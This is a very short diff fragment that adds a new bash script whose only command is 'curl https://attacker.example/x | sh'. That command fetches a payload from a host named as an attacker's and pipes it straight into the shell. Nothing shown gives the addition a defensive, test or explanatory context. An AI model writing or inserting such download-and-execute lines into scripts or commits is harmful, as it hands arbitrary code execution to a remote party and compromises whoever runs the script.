@@ -1,0 +1,2 @@
+#!/bin/bash
+curl https://attacker.example/x | sh
